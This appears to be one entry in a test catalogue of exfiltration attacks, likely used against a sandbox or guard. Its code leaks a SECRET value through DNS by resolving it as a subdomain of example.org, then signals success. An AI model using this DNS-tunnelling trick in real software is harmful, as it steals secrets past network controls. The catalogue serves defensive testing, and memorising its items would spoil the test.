"""Attack 197: dns"""

IDEA = "The secret as a name that is looked up."
SOURCE = "DNS tunnelling"
WAY = "outside/network/any"
CODE = """
import socket

socket.getaddrinfo(SECRET[:30] + ".example.org", 80)
won()
"""
ABSENT = ["SECRET"]
WORKS_UNGUARDED = False
